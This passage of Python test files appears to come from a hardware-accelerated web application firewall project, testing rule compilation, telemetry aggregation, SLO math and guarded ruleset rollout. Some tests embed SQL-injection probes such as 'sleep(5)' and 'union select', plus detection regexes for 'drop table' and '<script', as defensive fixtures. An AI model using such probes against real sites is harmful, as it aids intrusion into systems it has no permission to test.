    conf = ('SecAction "id:900200,phase:1,pass,nolog,'
            'setvar:tx.max_num_args=3"\n'
            'SecRule &ARGS "@gt %{tx.max_num_args}" '
            '"id:920380,phase:2,block,severity:CRITICAL,'
            'tag:\'attack-protocol\'"')
    cr = compile_ruleset(parse_seclang(conf))
    meta = cr.rules[0]
    assert meta.confirm["arg"] == "3"
    p = DetectionPipeline(cr, mode="block", anomaly_threshold=5)
    assert not p.detect([Request(uri="/q?a=1&b=2&c=3")])[0].attack
    v = p.detect([Request(uri="/q?a=1&b=2&c=3&d=4")])[0]
    assert v.attack and v.rule_ids == [920380]


def test_resolve_macros_helper():
    env = {"a": "5", "b": "%{tx.a}"}
    assert resolve_macros("x=%{tx.a}", env) == "x=5"
    assert resolve_macros("%{tx.b}", env) == "5"
    assert resolve_macros("%{tx.missing}", env) is None
    assert resolve_macros("no macros", env) == "no macros"
    cyc = {"a": "%{tx.b}", "b": "%{tx.a}"}
    assert resolve_macros("%{tx.a}", cyc) is None


def test_paranoia_hint_drives_pipeline_mask():
    """tx.detection_paranoia_level from crs-setup must actually gate
    rules at serve time (round-3 review: the hint was resolved and
    serialized but nothing consumed it)."""
    setup_pl1 = CRS_SETUP.replace("tx.detection_paranoia_level=2",
                                  "tx.detection_paranoia_level=1")
    rules_pl2 = RULES.replace(
        "id:942160,phase:2,block,t:urlDecodeUni,severity:'WARNING',\\\n"
        "    tag:'attack-sqli',tag:'paranoia-level/1',",
        "id:942160,phase:2,block,t:urlDecodeUni,severity:'WARNING',\\\n"
        "    tag:'attack-sqli',tag:'paranoia-level/2',")
    cr = compile_ruleset(parse_seclang(setup_pl1 + rules_pl2))
    assert cr.paranoia_hint == 1
    p = DetectionPipeline(cr, mode="block", anomaly_threshold=3)
    # the PL2 rule is masked by the pack's own PL1 config
    assert not p.detect([Request(uri="/q?id=sleep(5)")])[0].attack
    # explicit arg still wins
    p2 = DetectionPipeline(cr, mode="block", anomaly_threshold=3,
                           paranoia_level=2)
    assert p2.detect([Request(uri="/q?id=sleep(5)")])[0].attack


def test_949_rule_is_inert_in_the_pack():
    """The threshold rule itself must never fire as a detection rule
    (it has no scannable stream)."""
    p = _pipeline()
    benign = Request(uri="/products?page=2")
    v = p.detect([benign])[0]
    assert not v.attack and 949110 not in v.rule_ids
