"""CI pin for the non-circular prefilter-loss property (VERDICT round-2
item 3): on a small corpus + fuzz, the TPU prefilter must lose ZERO
confirm-stage matches vs evaluating every rule exactly on CPU.  The
committed reports/PREFILTER_GATE.json is the full 10k+fuzz run of the
same instrument (utils/prefilter_gate.py)."""

import json
from pathlib import Path

from ingress_plus_tpu.utils.prefilter_gate import run_gate

REPORT = Path(__file__).resolve().parent.parent / "reports" / "PREFILTER_GATE.json"


def test_prefilter_never_loses_a_confirm_match_small_corpus():
    report = run_gate(n=192, fuzz_per_attack=2, seed=1234, batch=64,
                      progress=False)
    assert report["mismatches"] == 0, report["mismatch_samples"][:5]
    # the gate must actually have exercised both paths on real hits
    assert report["requests_total"] >= 192
    assert report["confirm_only_rule_hits"] > 0
    assert report["normal_rule_hits"] == report["confirm_only_rule_hits"]


def test_committed_full_gate_report_is_clean():
    """The committed artifact (10k + fuzz) must exist and show zero
    prefilter losses — this is the measured, non-circular form of the
    'zero detection-F1 regression' claim."""
    assert REPORT.exists(), "run: python -m ingress_plus_tpu.utils." \
        "prefilter_gate --n 10000 --fuzz 2 --out reports/PREFILTER_GATE.json"
    rep = json.loads(REPORT.read_text())
    assert rep["mismatches"] == 0
    assert rep["requests_base"] >= 10_000
    assert rep["requests_fuzzed"] > 0
