"""Fleet telemetry plane (ISSUE 18): exposition parser round-trip,
counter conservation under concurrent traffic, histogram bucket-merge
vs a reference, traffic-weighted profile-merge determinism, skew/stale
detection, SLO burn math on an injected clock, and the /fleet/* + `dbg
fleet` surfaces.

Everything here runs in-process over fake node transports — fast and
deterministic.  The end-to-end legs over REAL serve processes live in
``bench.py --fleet-obs`` and the ``fleetgate`` CI gate; the fault-matrix
``fleet_scrape`` scenario (driven below) covers the mid-run stale drill
against live ServeLoops."""

import json
import math
import random
import threading
import time
import urllib.request

import pytest

from ingress_plus_tpu.analysis.promlint import check_exposition
from ingress_plus_tpu.compiler.profile import (
    PROFILE_VERSION, MeasuredProfile, ProfileVersionError)
from ingress_plus_tpu.control.dbg import render_fleet
from ingress_plus_tpu.control.fleetobs import FleetObserver, ScrapeError
from ingress_plus_tpu.utils import promparse
from ingress_plus_tpu.utils.faults import (
    FaultPlan, clear as faults_clear, install as faults_install,
    run_fault_matrix)
from ingress_plus_tpu.utils.slo import SLO, SLOEngine
from ingress_plus_tpu.utils.trace import Histogram

#: small fixed bucket set so the tests can reason about exact counts
BOUNDS = (100, 1000, 10000, 100000)


# --------------------------------------------------------------- fixtures

def node_exposition(requests=100, fail_open=0, degraded=0,
                    version="gen-a", e2e_us=(),
                    confirm=(1000, 1000, 1000)) -> str:
    """One node's /metrics text, shaped like the real serve loop's:
    counters, an info joint, a gauge, and a real Histogram rendering
    its own cumulative ``_bucket`` lines."""
    h = Histogram(BOUNDS)
    for us in e2e_us:
        h.observe(us)
    prep_us, engine_us, confirm_us = confirm
    lines = [
        "# HELP ipt_requests_total requests admitted",
        "# TYPE ipt_requests_total counter",
        "ipt_requests_total %d" % requests,
        "# HELP ipt_fail_open_total fail-open verdicts",
        "# TYPE ipt_fail_open_total counter",
        "ipt_fail_open_total %d" % fail_open,
        "# HELP ipt_degraded_verdicts_total degraded verdicts",
        "# TYPE ipt_degraded_verdicts_total counter",
        "ipt_degraded_verdicts_total %d" % degraded,
        "# HELP ipt_prep_us_sum cumulative prep time",
        "# TYPE ipt_prep_us_sum counter",
        "ipt_prep_us_sum %d" % prep_us,
        "# HELP ipt_engine_us_sum cumulative engine time",
        "# TYPE ipt_engine_us_sum counter",
        "ipt_engine_us_sum %d" % engine_us,
        "# HELP ipt_confirm_us_sum cumulative confirm time",
        "# TYPE ipt_confirm_us_sum counter",
        "ipt_confirm_us_sum %d" % confirm_us,
        "# HELP ipt_ruleset_info active pack generation",
        "# TYPE ipt_ruleset_info gauge",
        'ipt_ruleset_info{rules="3",version="%s"} 1' % version,
        "# HELP ipt_queue_depth current queue depth",
        "# TYPE ipt_queue_depth gauge",
        "ipt_queue_depth 2",
        "# HELP ipt_stage_us per-stage latency",
        "# TYPE ipt_stage_us histogram",
    ] + h.prometheus("ipt_stage_us", {"stage": "e2e"})
    return "\n".join(lines) + "\n"


def _prof(source: str, requests: int, cand: float,
          cost: float) -> MeasuredProfile:
    return MeasuredProfile(
        source=source, requests=requests,
        rules={942100: {"candidate_rate": cand,
                        "confirmed_rate": round(cand / 2, 6),
                        "confirm_us_per_candidate": cost,
                        "qr_skip_rate": 0.5}})


def default_payloads(requests=100, fail_open=0, degraded=0,
                     version="gen-a", e2e_us=(),
                     confirm=(1000, 1000, 1000), source="n",
                     quiet=()):
    return {
        "/metrics": node_exposition(requests, fail_open, degraded,
                                    version, e2e_us, confirm),
        "/healthz": json.dumps({"status": "ok"}),
        "/rules/stats?format=profile":
            _prof(source, requests, 0.1, 12.0).to_json(),
        "/rules/drift": json.dumps(
            {"went_quiet": [{"rule": r} for r in quiet]}),
    }


def mk_transport(payloads, fail=None):
    """Dict-backed node transport; ``fail()`` truthy simulates the node
    going down mid-scrape."""
    def _fetch(path: str) -> bytes:
        if fail is not None and fail():
            raise ScrapeError("node down")
        val = payloads[path]
        if callable(val):
            val = val()
        return val.encode() if isinstance(val, str) else val
    return _fetch


def mk_observer(node_payloads, fails=None) -> FleetObserver:
    obs = FleetObserver()
    for i, (name, payloads) in enumerate(node_payloads):
        obs.add_node(name, transport=mk_transport(
            payloads, fail=(fails or {}).get(name)))
    return obs


# ---------------------------------------------------------------- parser

def test_parser_round_trips_real_exposition():
    samples = [50, 500, 5000, 50000, 500000]
    text = node_exposition(requests=7, e2e_us=samples)
    exp = promparse.parse_exposition(text)
    assert exp.errors == []
    assert exp.types["ipt_requests_total"] == "counter"
    assert exp.types["ipt_stage_us"] == "histogram"
    assert exp.value("ipt_requests_total") == 7.0
    assert exp.value("ipt_ruleset_info", version="gen-a") == 1.0
    (rec,) = exp.histogram_series("ipt_stage_us").values()
    assert rec["labels"] == {"stage": "e2e"}
    assert rec["count"] == len(samples)
    assert rec["buckets"][-1][0] == math.inf
    # decode the cumulative buckets back into a Histogram: the round
    # trip must reproduce the original distribution exactly
    bounds = [int(le) for le, _v in rec["buckets"][:-1]]
    back = Histogram.from_cumulative(
        bounds, [v for _le, v in rec["buckets"]], rec["sum"])
    ref = Histogram(BOUNDS)
    for us in samples:
        ref.observe(us)
    assert back.snapshot() == ref.snapshot()


def test_parser_reports_errors_never_raises():
    exp = promparse.parse_exposition(
        "# TYPE broken\nipt_x{bad 1\nipt_y notafloat\n")
    assert exp.errors, "malformed input must surface as findings"
    assert all(isinstance(e, str) and "line " in e for e in exp.errors)
    # the valid-line subset still parses around the damage
    exp2 = promparse.parse_exposition(
        "ipt_ok_total 3\nipt_x{bad 1\n")
    assert exp2.value("ipt_ok_total") == 3.0
    assert len(exp2.errors) == 1


# ---------------------------------------------------------- conservation

def test_counter_conservation_under_concurrent_traffic():
    counts = [0, 0, 0]
    lock = threading.Lock()

    def metrics_for(i):
        def _render():
            with lock:
                c = counts[i]
            return node_exposition(requests=c)
        return _render

    node_payloads = []
    for i in range(3):
        p = default_payloads(source="n%d" % i)
        p["/metrics"] = metrics_for(i)
        node_payloads.append(("n%d" % i, p))
    obs = mk_observer(node_payloads)

    stop = threading.Event()

    def traffic(i):
        while not stop.is_set():
            with lock:
                counts[i] += 1
            time.sleep(0.001)

    threads = [threading.Thread(target=traffic, args=(i,))
               for i in range(3)]
    for t in threads:
        t.start()
    try:
        # while traffic is live, every cycle's fleet sum must equal the
        # sum of its own per-node addends — conservation is a per-cycle
        # invariant, not an end-state accident
        for _ in range(5):
            obs.scrape()
            fleet, per_node = obs.counters_snapshot()
            addends = per_node["ipt_requests_total"]
            assert set(addends) == {"n0", "n1", "n2"}
            assert fleet["ipt_requests_total"] == sum(addends.values())
    finally:
        stop.set()
        for t in threads:
            t.join()
    # quiesced: the fleet sum equals the independently-counted truth
    obs.scrape()
    fleet, _per = obs.counters_snapshot()
    assert fleet["ipt_requests_total"] == float(sum(counts))


# ------------------------------------------------------- histogram merge

def test_histogram_merge_matches_reference():
    rng = random.Random(42)
    ref = Histogram(BOUNDS)
    parts = []
    for _ in range(4):
        h = Histogram(BOUNDS)
        for _j in range(200):
            us = rng.randint(0, 200000)
            h.observe(us)
            ref.observe(us)
        parts.append(h)
    merged = Histogram.merge(parts)
    assert merged.snapshot() == ref.snapshot()
    assert merged.percentile(0.99) == ref.percentile(0.99)


def test_histogram_merge_and_decode_reject_bad_shapes():
    with pytest.raises(ValueError, match="bounds mismatch"):
        Histogram.merge([Histogram((1, 2)), Histogram((1, 3))])
    with pytest.raises(ValueError, match="non-monotonic"):
        Histogram.from_cumulative((100, 1000), [5, 3, 6])
    with pytest.raises(ValueError, match="does not match"):
        Histogram.from_cumulative((100, 1000), [1, 2])


# --------------------------------------------------------- profile merge

def test_profile_merge_is_weighted_and_order_insensitive():
    a = _prof("a", 100, 0.1, 10.0)
    b = _prof("b", 300, 0.3, 20.0)
    c = _prof("c", 0, 0.5, 40.0)     # idle node: zero traffic weight
    m1 = MeasuredProfile.merge([a, b, c])
    m2 = MeasuredProfile.merge([c, b, a])
    assert m1.content_hash() == m2.content_hash()
    assert m1.to_json() == m2.to_json()
    # repeat merge → hash-stable (the retune daemon's idempotence)
    assert (MeasuredProfile.merge([a, b, c]).content_hash()
            == m1.content_hash())
    assert m1.requests == 400
    rec = m1.rules[942100]
    # candidate rate averages over ALL traffic weight:
    # (100*0.1 + 300*0.3) / 400
    assert rec["candidate_rate"] == pytest.approx(0.25)
    # confirm cost averages per candidate volume:
    # (100*0.1*10 + 300*0.3*20) / (100*0.1 + 300*0.3)
    assert rec["confirm_us_per_candidate"] == pytest.approx(19.0)


def test_profile_merge_rejects_cross_version():
    a = _prof("a", 10, 0.1, 1.0)
    b = _prof("b", 10, 0.1, 1.0)
    b.version = PROFILE_VERSION + 1
    with pytest.raises(ProfileVersionError) as ei:
        MeasuredProfile.merge([a, b])
    assert ei.value.versions == (PROFILE_VERSION, PROFILE_VERSION + 1)
    with pytest.raises(ValueError):
        MeasuredProfile.merge([])


def test_profile_merge_all_idle_fleet():
    """Every node at zero requests (a fleet that just booted): the
    merge must not divide by zero — it falls back to the unweighted
    mean so a retune against the cold fleet still has a profile."""
    a = _prof("a", 0, 0.2, 10.0)
    b = _prof("b", 0, 0.4, 30.0)
    m = MeasuredProfile.merge([a, b])
    assert m.requests == 0
    rec = m.rules[942100]
    assert rec["candidate_rate"] == pytest.approx(0.3)
    # per-candidate cost weights by candidate volume even at w=1:
    # (0.2*10 + 0.4*30) / (0.2 + 0.4)
    assert rec["confirm_us_per_candidate"] == pytest.approx(23.333)
    # and the result is still order-canonical
    assert (MeasuredProfile.merge([b, a]).content_hash()
            == m.content_hash())


def test_profile_merge_single_node_is_near_identity():
    """A one-node fleet merges to the same rates it reported — the
    daemon must behave identically whether it fronts 1 node or 10."""
    a = _prof("solo", 500, 0.25, 15.0)
    a.byte_freq = [1.0 / 256] * 256
    m = MeasuredProfile.merge([a])
    assert m.requests == 500 and m.version == a.version
    assert m.rules[942100]["candidate_rate"] == pytest.approx(0.25)
    assert m.rules[942100]["confirm_us_per_candidate"] == \
        pytest.approx(15.0)
    assert m.rules[942100]["qr_skip_rate"] == pytest.approx(0.5)
    assert len(m.byte_freq) == 256
    assert sum(m.byte_freq) == pytest.approx(1.0)


def test_profile_merge_rule_absent_on_some_nodes():
    """A rule only one node ever saw still dilutes over ALL traffic
    weight (absence == zero candidates on that node), and an idle
    zero-request node alongside busy ones contributes nothing."""
    busy = _prof("busy", 300, 0.2, 10.0)
    quiet = MeasuredProfile(source="quiet", requests=100, rules={})
    idle = _prof("idle", 0, 0.9, 99.0)
    m = MeasuredProfile.merge([busy, quiet, idle])
    rec = m.rules[942100]
    # (300*0.2) / 400 — the quiet node's 100 requests count as zeros,
    # the idle node's w=0 silences its (stale) rates entirely
    assert rec["candidate_rate"] == pytest.approx(0.15)
    assert rec["confirm_us_per_candidate"] == pytest.approx(10.0)
    assert m.requests == 400


def test_profile_from_dict_rejects_newer_schema():
    """A node running a NEWER profile schema must be a structured skip
    at decode time (ProfileVersionError), not a silent mis-merge —
    the fleet plane turns this into a per-node merge error."""
    d = _prof("future", 10, 0.1, 1.0).to_dict()
    d["version"] = PROFILE_VERSION + 1
    with pytest.raises(ProfileVersionError):
        MeasuredProfile.from_dict(d)
    # same-or-older versions decode fine
    ok = MeasuredProfile.from_dict(
        _prof("now", 10, 0.1, 1.0).to_dict())
    assert ok.rules[942100]["candidate_rate"] == pytest.approx(0.1)


# ----------------------------------------------------------------- skew

def test_generation_p99_and_confirm_share_skew():
    fast = list(range(0, 5000, 100))
    slow = [90000] * 50
    node_payloads = []
    for i in range(3):
        odd = i == 2
        node_payloads.append(("n%d" % i, default_payloads(
            version="gen-b" if odd else "gen-a",
            e2e_us=slow if odd else fast,
            confirm=(1000, 1000, 5000) if odd else (1000, 1000, 1000),
            source="n%d" % i)))
    obs = mk_observer(node_payloads)
    health = obs.scrape()
    found = {(f["kind"], f["node"]) for f in health["skew_findings"]}
    assert ("generation_skew", "n2") in found
    assert ("p99_outlier", "n2") in found
    assert ("confirm_share_outlier", "n2") in found
    # the majority nodes are NOT flagged
    assert not any(node in ("n0", "n1") for _k, node in found)


def test_stale_node_excluded_then_recovers():
    down = {"n0": False}
    node_payloads = [("n%d" % i, default_payloads(source="n%d" % i))
                     for i in range(3)]
    obs = mk_observer(node_payloads,
                      fails={"n0": lambda: down["n0"]})
    obs.scrape()
    assert [n.up for n in obs.nodes] == [True, True, True]

    down["n0"] = True
    health = obs.scrape()
    assert health["nodes_up"] == 2 and health["nodes_stale"] == 1
    assert obs.nodes[0].stale and not obs.nodes[0].up
    fleet, per_node = obs.counters_snapshot()
    addends = per_node["ipt_requests_total"]
    # conservation over the reachable subset: the stale node neither
    # contributes an addend nor pollutes the gauge rollups
    assert set(addends) == {"n1", "n2"}
    assert fleet["ipt_requests_total"] == sum(addends.values())
    text = obs.fleet_metrics()
    assert "ipt_fleet_nodes_stale 1" in text
    assert 'node="n0"' not in text

    down["n0"] = False
    health = obs.scrape()
    assert health["nodes_up"] == 3 and health["nodes_stale"] == 0
    assert "ipt_fleet_nodes_stale 0" in obs.fleet_metrics()


def test_scrape_fault_sites_drive_the_scraper():
    node_payloads = [("n%d" % i, default_payloads(source="n%d" % i))
                     for i in range(3)]
    obs = mk_observer(node_payloads)
    saved_exc = None
    try:
        obs.scrape()
        faults_install(FaultPlan.from_spec("scrape_timeout:times=1"))
        health = obs.scrape()
    except BaseException as e:  # pragma: no cover - diagnostics only
        saved_exc = e
    finally:
        faults_clear()
    assert saved_exc is None
    # exactly the first-scraped node ate the injected fault
    assert health["nodes_up"] == 2 and health["nodes_stale"] == 1
    assert obs.nodes[0].error == "injected scrape timeout"


def test_fleet_scrape_fault_matrix_scenario():
    rep = run_fault_matrix(only=["fleet_scrape"])
    assert rep["passed"], rep["scenarios"]["fleet_scrape"]


# ------------------------------------------------------------- SLO burn

def test_slo_burn_math_on_injected_clock():
    now = [0.0]
    eng = SLOEngine((SLO("avail", "availability", 0.99),),
                    clock=lambda: now[0])
    assert eng.burn_rates()["avail"]["verdict"] == "no_data"

    eng.observe("avail", 0.0, 0.0)
    now[0] = 100.0
    eng.observe("avail", 90.0, 100.0)     # 10% errors, 1% budget
    rec = eng.burn_rates()["avail"]
    fast = rec["windows"]["fast"]
    assert fast["error_rate"] == pytest.approx(0.1)
    assert fast["burn"] == pytest.approx(10.0)
    # 10x burn on both windows warns but does not page (< 14.4)
    assert rec["verdict"] == "burning"

    now[0] = 200.0
    eng.observe("avail", 90.0, 200.0)     # the next 100 all failed
    rec = eng.burn_rates()["avail"]
    assert rec["windows"]["fast"]["burn"] >= 14.4
    assert rec["windows"]["slow"]["burn"] >= 14.4
    assert rec["verdict"] == "critical"
    assert eng.fleet_verdict() == "critical"


def test_slo_spike_that_recovered_stops_paging():
    now = [0.0]
    eng = SLOEngine((SLO("avail", "availability", 0.99),),
                    clock=lambda: now[0])
    eng.observe("avail", 0.0, 0.0)
    now[0] = 100.0
    eng.observe("avail", 50.0, 100.0)     # old spike: 50% errors
    now[0] = 2800.0
    eng.observe("avail", 1040.0, 1090.0)  # long clean stretch
    now[0] = 3000.0
    eng.observe("avail", 1050.0, 1100.0)
    rec = eng.burn_rates()["avail"]
    # fast window sees only the clean tail; slow still remembers
    assert rec["windows"]["fast"]["burn"] == pytest.approx(0.0)
    assert rec["windows"]["slow"]["burn"] > 1.0
    assert rec["verdict"] == "ok"


def test_slo_counter_reset_clamps_to_zero():
    now = [0.0]
    eng = SLOEngine((SLO("avail", "availability", 0.99),),
                    clock=lambda: now[0])
    eng.observe("avail", 100.0, 100.0)
    now[0] = 50.0
    eng.observe("avail", 5.0, 10.0)       # node restart: counters shrank
    rec = eng.burn_rates()["avail"]
    # negative deltas clamp: no data this span, never a negative burn
    assert rec["windows"]["fast"]["burn"] is None
    assert rec["verdict"] == "no_data"


def test_slo_engine_validates_inputs():
    with pytest.raises(KeyError):
        SLOEngine().observe("nope", 1, 1)
    with pytest.raises(ValueError):
        SLO("bad", "availability", 1.5)
    with pytest.raises(ValueError):
        SLO("bad", "throughput", 0.9)
    with pytest.raises(ValueError):
        SLOEngine((SLO("x", "availability", 0.9),
                   SLO("x", "latency", 0.9, budget_us=1)))
    lines = SLOEngine().prometheus_lines()
    text = "\n".join(lines)
    assert 'ipt_slo_burn_rate{slo="availability",window="fast"}' in text
    assert "# TYPE ipt_slo_verdict gauge" in text


# ------------------------------------------------- endpoints + renderer

def test_fleet_endpoints_promlint_and_dbg_render():
    node_payloads = [
        ("n%d" % i, default_payloads(
            source="n%d" % i, e2e_us=[200, 2000, 20000],
            quiet=(942100,) if i == 0 else ()))
        for i in range(3)]
    obs = mk_observer(node_payloads)
    obs.scrape()
    obs.scrape()

    status, ctype, body = obs.route("/fleet/metrics")
    assert status.startswith("200") and ctype.startswith("text/plain")
    text = body.decode()
    # the aggregated exposition passes its own lint (fleet mode allows
    # the deliberate node=/agg= labels, nothing else)
    assert check_exposition(text, fleet=True) == []
    assert 'ipt_slo_burn_rate{slo="availability",window="fast"}' in text
    assert 'ipt_queue_depth{agg="mean"}' in text
    assert 'ipt_queue_depth{node="n1"}' in text
    # per-node lint must reject those same labels
    assert any("node-identity label" in f
               for f in check_exposition(text, fleet=False))

    for path in ("/fleet/healthz", "/fleet/drift", "/fleet/slo",
                 "/fleet/profile"):
        status, ctype, body = obs.route(path)
        assert status.startswith("200"), path
        json.loads(body)
    status, _ctype, body = obs.route("/fleet/nope")
    assert status.startswith("404")
    assert "/fleet/metrics" in json.loads(body)["routes"]

    drift = obs.fleet_drift()
    assert drift["fleet_went_quiet"] == [
        {"rule": "942100", "nodes": ["n0"]}]

    health = obs.healthz()
    out = render_fleet(health, obs.fleet_slo())
    assert out.startswith("fleet:")
    for needle in ("n0", "n1", "n2", "generation", "availability",
                   "latency_p99"):
        assert needle in out, needle

    # the same surfaces over a real TCP port
    port = obs.serve_http(0)
    try:
        raw = urllib.request.urlopen(
            "http://127.0.0.1:%d/fleet/healthz" % port,
            timeout=10).read()
        assert json.loads(raw)["nodes_up"] == 3
    finally:
        obs.close()


def test_observer_registry_validates():
    obs = FleetObserver()
    obs.add_node("a", transport=mk_transport(default_payloads()))
    with pytest.raises(ValueError, match="duplicate"):
        obs.add_node("a", transport=mk_transport(default_payloads()))
    with pytest.raises(ValueError, match="target or a transport"):
        obs.add_node("b")
