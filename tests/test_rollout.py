"""Guarded ruleset rollout (control/rollout.py, docs/ROBUSTNESS.md).

Covers the ISSUE 5 acceptance criteria: the admission gate rejects bad
packs with zero traffic impact, a good pack reaches LIVE through
shadow + canary while concurrent batch AND streaming traffic observes
exactly one verdict from exactly one generation, a mid-canary failure
auto-rolls back to the untouched incumbent, LIVE packs persist to the
last-known-good store and startup prefers (and survives corruption of)
that store, and ``force`` mode keeps the one-shot break-glass swap.
"""

import asyncio
import json
import threading
import time

import pytest

from ingress_plus_tpu.compiler.ruleset import CompiledRuleset, compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.control.rollout import (
    _DRILL_BROKEN,
    _DRILL_CANDIDATE,
    _DRILL_INCUMBENT,
    CANARY,
    LIVE,
    REJECTED,
    ROLLED_BACK,
    SHADOW,
    RolloutConfig,
    RolloutController,
    RolloutRejected,
    _hash_frac,
    load_lkg,
    persist_lkg,
    run_swap_drill,
)
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils.faults import _collect, _mk_batcher, _requests


@pytest.fixture(scope="module")
def packs():
    return {
        "inc": compile_ruleset(parse_seclang(_DRILL_INCUMBENT)),
        "cand": compile_ruleset(parse_seclang(_DRILL_CANDIDATE)),
        "broken": compile_ruleset(parse_seclang(_DRILL_BROKEN)),
        "overblock": compile_ruleset(parse_seclang(_DRILL_INCUMBENT + """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)drop\\s+table" \
    "id:955200,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
""")),
        # candidate MISSING the sqli rule: golden attacks the incumbent
        # catches become false negatives -> new_fns gate
        "lossy": compile_ruleset(parse_seclang("""
SecRule REQUEST_URI|ARGS "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
""")),
    }


def _fast_config(lkg_dir=None, **kw):
    cfg = RolloutConfig(steps=(0.25, 1.0), step_min_requests=8,
                        shadow_min_requests=4, shadow_sample=1.0,
                        corpus_n=32, diff_min_compared=4, lkg_dir=lkg_dir)
    for k, v in kw.items():
        setattr(cfg, k, v)
    return cfg


def _rollout_batcher(packs, lkg_dir=None, **cfg_kw):
    b = _mk_batcher(cr=packs["inc"])
    ro = RolloutController(b, _fast_config(lkg_dir, **cfg_kw))
    b.rollout = ro
    return b, ro


def _drive(b, ro, terminal, tag="d", timeout_s=60.0):
    verdicts, violations = [], []
    deadline = time.monotonic() + timeout_s
    wave = 0
    while ro.state not in terminal and time.monotonic() < deadline:
        futs = [b.submit(r) for r in _requests(24, attack_every=4,
                                               tag="%s%d" % (tag, wave))]
        vs, viol = _collect(futs, timeout_s=30)
        verdicts += vs
        violations += viol
        wave += 1
    assert not violations, violations
    return verdicts


# ---------------------------------------------------------- unit layer

def test_hash_frac_deterministic_and_bounded():
    vals = [_hash_frac("req-%d" % i) for i in range(500)]
    assert vals == [_hash_frac("req-%d" % i) for i in range(500)]
    assert all(0.0 <= v < 1.0 for v in vals)
    # roughly uniform: a 25% step should take a nontrivial share
    frac = sum(1 for v in vals if v < 0.25) / len(vals)
    assert 0.1 < frac < 0.4


def test_admission_rejects_broken_pack_zero_traffic_impact(packs):
    b, ro = _rollout_batcher(packs)
    try:
        v0 = b.pipeline.ruleset.version
        with pytest.raises(RolloutRejected) as ei:
            ro.admit(ruleset=packs["broken"])
        assert ei.value.report["stage"] == "static"
        assert ei.value.report["reason"] == "rulecheck"
        # the dead-regex finding is named in the structured report
        checks = {f["check"] for f in ei.value.report["detail"]["findings"]}
        assert "regex.confirm-unparsable" in checks
        assert ro.state == REJECTED
        assert ro.swap_rejected.get("rulecheck") == 1
        # zero traffic impact: incumbent untouched and still detecting
        assert b.pipeline.ruleset.version == v0
        vs, viol = _collect(
            [b.submit(r) for r in _requests(8, attack_every=4, tag="z")], 30)
        assert not viol and any(v.attack for v in vs)
    finally:
        b.close()


def test_admission_rejects_overblocking_pack_on_benign_fixtures(packs):
    """A candidate that blocks benign traffic the incumbent passes (the
    SQL-in-prose fixtures) must die in the replay gate."""
    b, ro = _rollout_batcher(packs)
    try:
        with pytest.raises(RolloutRejected) as ei:
            ro.admit(ruleset=packs["overblock"])
        assert ei.value.report["stage"] == "replay"
        assert ei.value.report["reason"] == "benign_blocks"
        assert ei.value.report["detail"]["benign_new_blocks"] > 0
    finally:
        b.close()


def test_admission_rejects_detection_loss(packs):
    # a larger replay corpus: the loss gate needs golden attacks the
    # incumbent actually catches (union-select templates) in the sample
    b, ro = _rollout_batcher(packs, corpus_n=256)
    try:
        with pytest.raises(RolloutRejected) as ei:
            ro.admit(ruleset=packs["lossy"])
        assert ei.value.report["stage"] == "replay"
        assert ei.value.report["reason"] == "new_fns"
        assert ei.value.report["detail"]["new_fns"] > 0
    finally:
        b.close()


def test_admission_rejects_already_live_and_concurrent(packs):
    b, ro = _rollout_batcher(packs)
    try:
        with pytest.raises(RolloutRejected) as ei:
            ro.admit(ruleset=packs["inc"])
        assert ei.value.report["reason"] == "already_live"
        ro.admit(ruleset=packs["cand"])
        assert ro.state == SHADOW
        with pytest.raises(RolloutRejected) as ei:
            ro.admit(ruleset=packs["cand"])
        assert ei.value.report["reason"] == "rollout_in_progress"
    finally:
        b.close()


# ----------------------------------------------------- staged rollout

def test_staged_rollout_reaches_live_under_concurrent_load(packs):
    """The tentpole e2e: staged rollout driven while concurrent batch
    AND streaming-body traffic is in flight — every admitted request
    resolves to exactly one verdict from exactly one generation, stream
    bodies pin their generation across the promote, and the incumbent's
    counters freeze into the drift snapshot."""
    b, ro = _rollout_batcher(packs)
    inc_v = packs["inc"].version
    cand_v = packs["cand"].version
    stop = threading.Event()
    results, errors = [], []
    lock = threading.Lock()

    def worker(wid):
        wave = 0
        while not stop.is_set():
            futs = [b.submit(r) for r in
                    _requests(16, attack_every=4,
                              tag="w%d.%d." % (wid, wave))]
            vs, viol = _collect(futs, timeout_s=30)
            with lock:
                results.extend(vs)
                errors.extend(viol)
            wave += 1

    try:
        ro.admit(ruleset=packs["cand"])
        # a stream begun on the incumbent, fed across the whole rollout
        h = b.begin_stream(Request(uri="/post", request_id="pinned-stream"))
        b.feed_chunk(h, b"1 uni")
        threads = [threading.Thread(target=worker, args=(i,))
                   for i in range(3)]
        for t in threads:
            t.start()
        deadline = time.monotonic() + 60
        while ro.state not in (LIVE, REJECTED, ROLLED_BACK) \
                and time.monotonic() < deadline:
            time.sleep(0.05)
        stop.set()
        for t in threads:
            t.join(timeout=30)
        assert ro.state == LIVE, (ro.state, ro.rollback_reason)
        assert b.pipeline.ruleset.version == cand_v
        assert not errors, errors[:5]
        # exactly one generation per verdict; scanned verdicts only ever
        # name the two known generations
        gens = {v.generation for v in results if v.generation}
        assert gens <= {inc_v, cand_v}, gens
        assert any(v.generation == cand_v for v in results)
        # the stream pinned its generation: fed across the promote, it
        # must NOT mix tables — finish fails open on the version check
        b.feed_chunk(h, b"on select 2")
        sv = b.finish_stream(h).result(timeout=30)
        assert sv.fail_open and not sv.blocked
        # drift freeze: the incumbent's stats froze at promote
        assert b.pipeline.frozen_rule_stats is not None
        assert b.pipeline.frozen_rule_stats.version == inc_v
        # post-promote detection serves from the candidate pack
        vs, viol = _collect(
            [b.submit(r) for r in _requests(8, attack_every=4, tag="p")], 30)
        assert not viol
        hits = [v for v in vs if v.attack]
        assert hits and all(v.generation == cand_v for v in hits)
    finally:
        stop.set()
        b.close()


def test_midcanary_rollback_restores_incumbent(packs, tmp_path):
    b, ro = _rollout_batcher(packs, lkg_dir=str(tmp_path))
    inc_v = packs["inc"].version
    try:
        ro.admit(ruleset=packs["cand"])
        _drive(b, ro, (CANARY, LIVE, REJECTED, ROLLED_BACK), tag="c")
        assert ro.state == CANARY, ro.state
        # forced mid-canary failure (the rollback trigger the drill and
        # the batcher's guarded candidate dispatch both feed)
